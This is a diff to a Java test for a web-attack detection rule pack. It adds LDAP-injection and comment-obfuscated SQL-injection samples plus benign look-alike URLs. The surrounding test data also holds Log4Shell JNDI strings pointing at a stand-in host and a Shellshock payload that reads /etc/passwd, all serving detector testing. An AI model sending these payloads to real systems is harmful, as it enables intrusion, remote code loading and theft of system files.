@@ -90,6 +90,8 @@ public class RulePackTest {
       "/p?q=PRINT%20@@version|sqli|",
       "/login?user=*%29%28%7C%28objectclass%3D*%29%29|ldapi|",
       "/login?user=*(%7C(mail=*))|ldapi|",
+      "/files/*(%7C(objectclass=*))|ldapi|",
+      "/p?q=1%20uni%2F**%2Fon%20sel%2F**%2Fect%201|sqli|",
       "/|log4shell|${jndi:ldap://x.example/a}",
       "/?x=%24%7B%24%7B::-j%7Dndi:rmi://x.example/a%7D|log4shell|",
       "/cgi-bin/status|shellshock|() { :; }; echo; /bin/cat /etc/passwd",
@@ -161,7 +163,7 @@ public class RulePackTest {
       "//images/logo.png", "/shop//usr-guide/etc.html", "/t?state=Li4vabc",
       "/%7B%7Bitem.url%7D%7D", "/search?q=7*7%3D49", "/theme?color=0x64a0ff",
       "/guides/sleep%205%20tips", "/search?q=sleep+5+hours", "/search?q=(a+%7C+b)+or+c",
-      "/search?q=%40%40+operator"})
+      "/search?q=%40%40+operator", "/search?q=css+a%2F*note*%2Fb", "/files/*/readme"})
   void leavesBenignTrafficAlone(String target) {
     leavesBenignAgentsAlone(target, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
         + " AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36");
